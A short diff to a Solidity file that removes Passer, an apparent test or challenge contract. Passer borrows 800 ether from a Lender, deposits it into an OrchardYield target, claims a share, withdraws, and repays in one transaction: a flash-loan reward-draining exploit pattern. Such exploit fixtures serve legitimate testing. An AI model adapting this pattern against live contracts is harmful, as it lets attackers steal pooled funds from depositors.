@@ -18,27 +18,3 @@ contract Lender {
 
     receive() external payable {}
 }
-
-contract Passer is IBorrower {
-    OrchardYield private immutable orchard;
-    Lender private immutable lender;
-
-    constructor(OrchardYield target, Lender from) {
-        orchard = target;
-        lender = from;
-    }
-
-    function run() external {
-        lender.lend(800 ether);
-    }
-
-    function lent(uint256 amount) external payable {
-        orchard.keep{value: amount}();
-        orchard.share();
-        orchard.leave();
-        (bool paid, ) = address(lender).call{value: amount}("");
-        require(paid);
-    }
-
-    receive() external payable {}
-}
